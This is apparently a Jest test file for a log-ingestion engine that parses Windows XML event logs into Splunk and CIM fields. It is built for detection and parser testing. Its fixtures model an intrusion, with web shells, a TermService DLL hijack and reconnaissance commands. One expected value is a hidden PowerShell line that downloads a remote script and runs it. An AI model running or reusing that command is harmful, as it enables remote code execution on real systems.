// Field names follow the Splunk Add-on for Microsoft Windows (XmlWinEventLog, renderXml=true)
// and the Splunk Add-on for Sysmon; docs/sourcetypes.md is the contract these tests hold.
import { ingestText } from '../../../src/engine/ingest';
import { byCode, load, tags } from './helpers';

describe('XmlWinEventLog: system fields and event data', () => {
  const r = load('windows_mixed.xml', 'XmlWinEventLog');

  it('loads every event of the file and rejects none', () => {
    expect(r.rejected).toEqual([]);
    expect(r.events).toHaveLength(3);
  });

  it('gives Sysmon 1 its system fields, source from the channel and host from Computer', () => {
    const e = byCode(r, '1');
    expect(e.source).toBe('XmlWinEventLog:Microsoft-Windows-Sysmon/Operational');
    expect(e.sourcetype).toBe('XmlWinEventLog');
    expect(e.host).toBe('WEB01.corp.example.com');
    expect(e.index).toBe('main');
    expect(e.linecount).toBe(1);
    expect(e).toMatchObject({
      EventID: '1',
      EventCode: '1',
      Name: 'Microsoft-Windows-Sysmon',
      SourceName: 'Microsoft-Windows-Sysmon',
      Guid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}',
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Computer: 'WEB01.corp.example.com',
      EventRecordID: '184467',
      Keywords: '0x8000000000000000',
      Level: '4',
      Task: '1',
      Opcode: '0',
      Version: '5',
      ProcessID: '3172',
      ThreadID: '4620',
      UserID: 'S-1-5-18',
      SystemTime: '2026-03-14T10:12:01.4359330Z',
    });
  });

  it('keeps sub-second precision of TimeCreated SystemTime in _time', () => {
    const e = byCode(r, '1');
    expect(e._time).toBeCloseTo(Date.UTC(2026, 2, 14, 10, 12, 1) / 1000 + 0.435933, 6);
  });

  // Splunk_TA_windows indexes XmlWinEventLog with INDEXED_EXTRACTIONS = xmlkv-winevt, which skips values
  // holding XML-encoded characters (props.conf.spec XML_IE_SKIP_XML_ENCODED_VALS, default true; props.conf
  // reference https://help.splunk.com/en/data-management/splunk-enterprise-admin-manual/10.0/10.0.0-configuration-file-reference/props.conf
  // (unverified URL, by analogy with the macros.conf page)) and extracts them at search time with regexes
  // that capture the raw text between the tags (unverified: read from public descriptions of the add-on).
  it('turns named Data into fields whose values keep the XML encoding of _raw', () => {
    const e = byCode(r, '1');
    expect(e.CommandLine).toBe('cmd.exe /c "whoami /all &amp; net localgroup administrators"');
    expect(e._raw).toContain('whoami /all &amp; net');
    expect(e.EventData_Xml).toMatch(/^<Data Name='RuleName'>-<\/Data>.*&amp;.*<\/Data>$/);
    expect(e.System_Props_Xml).toMatch(/^<Provider Name='Microsoft-Windows-Sysmon'/);
    expect(e.ParentImage).toBe('C:\\Windows\\System32\\inetsrv\\w3wp.exe');
  });

  it('turns unnamed Data elements into a multivalue Data field, in order, and Binary into a field', () => {
    const e = byCode(r, '15457');
    expect(e.Data).toEqual(['xp_cmdshell', '0', '1']);
    expect(e.Name).toBe('MSSQL$VEEAMSQL');
    expect(e.Qualifiers).toBe('16384');
    expect(e.Binary).toBe('615C0000100000000F0000005300510040000000');
    expect(e.source).toBe('XmlWinEventLog:Application');
    expect(e.UserID).toBeUndefined(); // <Security/> has no UserID
  });

  it('lets --source, --host and --index override the event values', () => {
    const o = load('windows_mixed.xml', 'XmlWinEventLog', { source: 'WinEventLog:Fixture', host: 'override', index: 'wineventlog' });
    expect(o.events.every((e) => e.source === 'WinEventLog:Fixture' && e.host === 'override' && e.index === 'wineventlog')).toBe(true);
    expect(byCode(o, '1').dest).toBe('WEB01.corp.example.com'); // dest stays Computer
  });
});

describe('XmlWinEventLog: CIM mappings for Sysmon', () => {
  const r = load('windows_mixed.xml', 'XmlWinEventLog');
  const s = load('sysmon_events.xml', 'XmlWinEventLog');

  it('maps Sysmon 1 to Endpoint.Processes fields with tags process and report', () => {
    const e = byCode(r, '1');
    expect(tags(e)).toEqual(['process', 'report']);
    expect(e).toMatchObject({
      process: 'cmd.exe /c "whoami /all &amp; net localgroup administrators"',
      process_name: 'cmd.exe',
      process_path: 'C:\\Windows\\System32\\cmd.exe',
      process_id: '7344',
      process_guid: '{4f2c1a9e-3b21-65f2-5c04-000000002b00}',
      parent_process_name: 'w3wp.exe',
      parent_process_path: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
      parent_process_id: '5128',
      original_file_name: 'Cmd.Exe',
      process_current_directory: 'c:\\windows\\system32\\inetsrv\\',
      process_integrity_level: 'high',
      user: 'IIS APPPOOL\\DefaultAppPool',
      dest: 'WEB01.corp.example.com',
      action: 'allowed',
      vendor_product: 'Microsoft Sysmon',
    });
    expect(String(e.parent_process)).toMatch(/^c:\\windows\\system32\\inetsrv\\w3wp\.exe -ap "DefaultAppPool"/);
  });

  it('maps Sysmon 3 to Network_Traffic with direction from Initiated', () => {
    const e = byCode(s, '3');
    expect(tags(e)).toEqual(['network', 'communicate']);
    expect(e).toMatchObject({ src: '10.20.1.15', src_port: '50612', dest: '203.0.113.7', dest_ip: '203.0.113.7', dest_port: '443', transport: 'tcp', app: 'w3wp.exe', direction: 'outbound', dvc: 'WEB01.corp.example.com', dest_host: '-' });
  });

  it('gives Sysmon 7 its raw image-load fields and no data-model tag', () => {
    const e = byCode(s, '7');
    expect(e.tag).toBeUndefined();
    expect(e).toMatchObject({ ImageLoaded: 'C:\\Windows\\System32\\inetsrv\\HttpCacheModule.dll', Signed: 'false', Signature: '-', SignatureStatus: 'Unavailable', process_name: 'w3wp.exe' });
  });

  it('maps Sysmon 11, 23, 26, 29 to Endpoint.Filesystem with the right action', () => {
    const created = byCode(s, '11');
    expect(tags(created)).toEqual(['endpoint', 'filesystem']);
    expect(created).toMatchObject({
      file_path: 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\errorEE.aspx',
      file_name: 'errorEE.aspx',
      action: 'created',
      process_name: 'w3wp.exe',
      user: 'NT AUTHORITY\\SYSTEM',
      dest: 'EXCH01.corp.example.com',
    });
    expect(byCode(s, '23')).toMatchObject({ action: 'deleted', file_name: 'shell.aspx', file_hash: expect.stringMatching(/^SHA256=/) });
    expect(byCode(s, '26')).toMatchObject({ action: 'deleted', file_name: 'help.ashx' });
    expect(byCode(s, '29')).toMatchObject({ action: 'created', file_name: 'iisrtl64.dll' });
  });

  it('maps Sysmon 12 and 13 to Endpoint.Registry', () => {
    const set = byCode(s, '13');
    expect(tags(set)).toEqual(['endpoint', 'registry']);
    expect(set).toMatchObject({
      registry_path: 'HKLM\\System\\CurrentControlSet\\Services\\TermService\\Parameters\\ServiceDll',
      registry_key_name: 'HKLM\\System\\CurrentControlSet\\Services\\TermService\\Parameters',
      registry_value_name: 'ServiceDll',
      registry_value_data: 'C:\\ProgramData\\svc\\termsrv32.dll',
      registry_hive: 'HKEY_LOCAL_MACHINE',
      action: 'modified',
      user: 'CORP\\adm.jdoe',
    });
    expect(byCode(s, '12')).toMatchObject({ action: 'deleted', registry_key_name: 'HKLM\\System\\CurrentControlSet\\Services\\TermService\\Parameters\\Backup' });
  });
});

describe('XmlWinEventLog: CIM mappings for Security and Defender', () => {
  const r = load('windows_mixed.xml', 'XmlWinEventLog');
  const sec = load('security_events.xml', 'XmlWinEventLog');
  const other = load('application_and_others.xml', 'XmlWinEventLog');

  it('maps Security 4688 to Endpoint.Processes (hex ids as decimal, user from the subject when the target is "-")', () => {
    const e = byCode(r, '4688');
    expect(tags(e)).toEqual(['process', 'report']);
    expect(e).toMatchObject({
      process: '"C:\\Windows\\system32\\cmd.exe" /c powershell -nop -w hidden -c "iwr http://203.0.113.7/a.ps1 | iex"',
      process_name: 'cmd.exe',
      process_id: '6700',
      parent_process_name: 'sqlservr.exe',
      parent_process_id: '3948',
      process_integrity_level: 'high',
      user: 'MSSQLSERVER',
      dest: 'SQL01.corp.example.com',
      source: 'XmlWinEventLog:Security',
    });
  });

  it('joins a multi-line event (4663 AccessList spans lines) and maps a file write to Endpoint.Filesystem', () => {
    expect(sec.rejected).toEqual([]);
    const e = byCode(sec, '4663');
    expect(e.linecount).toBe(2);
    expect(tags(e)).toEqual(['endpoint', 'filesystem']);
    expect(e).toMatchObject({ file_path: 'C:\\inetpub\\wwwroot\\uploads\\cmd.aspx', file_name: 'cmd.aspx', action: 'modified', process_name: 'w3wp.exe', process_id: '5128', user: 'DefaultAppPool' });
    expect(e.ResourceAttributes).toBeUndefined(); // empty element: absent
  });

  it('maps Security 4657 to Endpoint.Registry', () => {
    expect(byCode(sec, '4657')).toMatchObject({
      registry_path: '\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\TermService\\Parameters\\ServiceDll',
      registry_value_name: 'ServiceDll',
      registry_value_data: 'C:\\ProgramData\\svc\\termsrv32.dll',
      registry_hive: 'HKEY_LOCAL_MACHINE',
      action: 'modified',
      user: 'adm.jdoe',
      tag: ['endpoint', 'registry'],
    });
  });

  it('maps Security 4625 to Authentication with action failure', () => {
    expect(byCode(sec, '4625')).toMatchObject({ tag: 'authentication', action: 'failure', user: 'administrator', src: '198.51.100.23', app: 'win:local', authentication_method: 'NTLM' });
  });

  it('maps Security 4720 (account created) to Change.Account_Management', () => {
    expect(byCode(sec, '4720')).toMatchObject({ tag: ['change', 'account'], action: 'created', change_type: 'AAA', object_category: 'user', object: 'support_svc', user: 'support_svc', src_user: 'DefaultAppPool', result: 'A user account was created', dest: 'WEB01.corp.example.com' });
  });

  it('maps Defender 1117 to Malware.Malware_Attacks with cleaned field names', () => {
    const e = byCode(other, '1117');
    expect(tags(e)).toEqual(['malware', 'attack']);
    expect(e).toMatchObject({
      Threat_Name: 'Backdoor:ASP/Chopper.F!dha',
      Product_Name: 'Microsoft Defender Antivirus',
      signature: 'Backdoor:ASP/Chopper.F!dha',
      file_path: 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\shell.aspx',
      file_name: 'shell.aspx',
      category: 'Backdoor',
      severity: 'severe',
      action: 'deferred',
      user: 'IIS APPPOOL\\DefaultAppPool',
      dest: 'WEB01.corp.example.com',
    });
    expect(e.FWLink).toContain('&amp;name=Backdoor');
  });

  it('keeps raw fields of the channels without a data model', () => {
    expect(other.rejected).toEqual([]);
    expect(byCode(other, '17135')).toMatchObject({ Name: 'MSSQL$VEEAMSQL', Data: 'sp_updstats_hook', dest: 'SQL01.corp.example.com', eventtype: 'wineventlog_application' });
    expect(byCode(other, '8128').Data).toEqual(['C:\\ProgramData\\maggie.dll', '2019.150.2000', 'xp_maggie']);
    expect(byCode(other, '2282')).toMatchObject({ Name: 'Microsoft-Windows-IIS-W3SVC-WP', EventSourceName: 'W3SVC-WP', ModuleDll: 'C:\\Windows\\System32\\inetsrv\\iisrtl64.dll' });
    const ps = byCode(other, '4104');
    expect(ps.source).toBe('XmlWinEventLog:Microsoft-Windows-PowerShell/Operational');
    expect(ps.ScriptBlockText).toContain('New-WebGlobalModule -Name "HttpCacheModuleX"');
    expect(ps.Path).toBeUndefined();
    expect(ps.ActivityID).toBe('{3a4b9e2c-1f00-0002-9c21-3b4a1f00d901}');
    const ex = byCode(other, '1');
    expect(ex.source).toBe('XmlWinEventLog:MSExchange Management');
    expect((ex.Data as string[])[0]).toBe('Install-TransportAgent');
    expect((ex.Data as string[]).length).toBe(8); // the empty <Data></Data> is not a value
    const iis = byCode(other, '29');
    expect(iis.source).toBe('XmlWinEventLog:Microsoft-IIS-Configuration/Operational');
    expect(iis.Configuration).toBe('/system.webServer/globalModules/add[@name="HttpCacheModuleX"]');
  });
});

describe('XmlWinEventLog: line breaking and malformed events', () => {
  const r = load('pretty_printed.xml', 'XmlWinEventLog');

  it('loads a pretty-printed event as one event with its linecount', () => {
    const e = byCode(r, '4624');
    expect(e.linecount).toBe(17); // lines 2-18: <Event …> to </Event>
    expect(e).toMatchObject({ TargetUserName: 'svc_backup', Note: 'a <b> & c', action: 'success', user: 'svc_backup', src: '10.20.1.40', host: 'DC01.corp.example.com' });
  });

  it('reports the text before the first event and the malformed event with file and line, and keeps the rest', () => {
    expect(r.events.map((e) => e.EventCode)).toEqual(['4624', '7045']);
    expect(r.rejected).toHaveLength(2);
    expect(r.rejected[0]).toMatchObject({ line: 1, reason: expect.stringMatching(/outside an <Event>/) });
    expect(r.rejected[1]).toMatchObject({ line: 19, reason: expect.stringMatching(/malformed Windows event XML: end tag <\/EventData> does not match <Data>/) });
    expect(r.rejected[1].file).toMatch(/pretty_printed\.xml$/);
  });

  it('rejects an event without EventID or TimeCreated, naming what is missing', () => {
    const noTime = "<Event><System><EventID>1</EventID><Channel>System</Channel><Computer>A</Computer></System></Event>";
    const noId = "<Event><System><TimeCreated SystemTime='2026-03-14T10:00:00Z'/><Computer>A</Computer></System></Event>";
    const res = ingestText(`${noTime}\n${noId}\n<Event><System><EventID>1</EventID><TimeCreated SystemTime='yesterday'/></System></Event>\n`, 'in.xml', { sourcetype: 'XmlWinEventLog' });
    expect(res.events).toEqual([]);
    expect(res.rejected.map((x) => [x.line, x.reason])).toEqual([
      [1, expect.stringContaining('no <TimeCreated SystemTime>')],
      [2, expect.stringContaining('no <EventID>')],
      [3, expect.stringContaining('"yesterday" is not an ISO 8601 time')],
    ]);
  });

  it('rejects unknown entities, accepts numeric character references and keeps them as written', () => {
    const ok = "<Event><System><EventID>1</EventID><TimeCreated SystemTime='2026-03-14T10:00:00Z'/><Channel>System</Channel><Computer>A</Computer></System><EventData><Data Name='X'>&#x41;&#66;&apos;&quot;</Data></EventData></Event>";
    const bad = ok.replace('&#x41;', '&nbsp;');
    const res = ingestText(`${ok}\n${bad}`, 'in.xml', { sourcetype: 'XmlWinEventLog' });
    expect(res.events[0].X).toBe('&#x41;&#66;&apos;&quot;');
    expect(res.rejected[0]).toMatchObject({ line: 2, reason: expect.stringContaining('unknown entity &nbsp;') });
  });

  it('uses the UserData payload leaves as fields', () => {
    const ev = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Eventlog'/><EventID>1102</EventID><TimeCreated SystemTime='2026-03-14T10:00:00Z'/><Channel>Security</Channel><Computer>DC01</Computer></System><UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'><SubjectUserSid>S-1-5-21-1-2-3-500</SubjectUserSid><SubjectUserName>Administrator</SubjectUserName><SubjectDomainName>CORP</SubjectDomainName></LogFileCleared></UserData></Event>";
    const [e] = ingestText(ev, 'u.xml', { sourcetype: 'XmlWinEventLog' }).events;
    expect(e).toMatchObject({ SubjectUserName: 'Administrator', SubjectDomainName: 'CORP' });
    expect(e.UserData_Xml).toMatch(/^<LogFileCleared /);
  });
});

describe('XmlWinEventLog with T1505_XML_VALUES=decoded (for comparisons, not what Splunk gives)', () => {
  const saved = process.env.T1505_XML_VALUES;
  beforeAll(() => {
    process.env.T1505_XML_VALUES = 'decoded';
  });
  afterAll(() => {
    if (saved === undefined) delete process.env.T1505_XML_VALUES;
    else process.env.T1505_XML_VALUES = saved;
  });

  it('decodes entities in field values and in the CIM fields built from them, and keeps _raw as written', () => {
    const e = byCode(load('windows_mixed.xml', 'XmlWinEventLog'), '1');
    expect(e.CommandLine).toBe('cmd.exe /c "whoami /all & net localgroup administrators"');
    expect(e.process).toBe(e.CommandLine);
    expect(e._raw).toContain('whoami /all &amp; net');
  });

  it('still rejects unknown entities, and decodes numeric references', () => {
    const ok = "<Event><System><EventID>1</EventID><TimeCreated SystemTime='2026-03-14T10:00:00Z'/><Channel>System</Channel><Computer>A</Computer></System><EventData><Data Name='X'>&#x41;&#66;&apos;&quot;</Data></EventData></Event>";
    const res = ingestText(`${ok}\n${ok.replace('&#x41;', '&nbsp;')}`, 'in.xml', { sourcetype: 'XmlWinEventLog' });
    expect(res.events[0].X).toBe('AB\'"');
    expect(res.rejected[0]).toMatchObject({ line: 2, reason: expect.stringContaining('unknown entity &nbsp;') });
  });
});
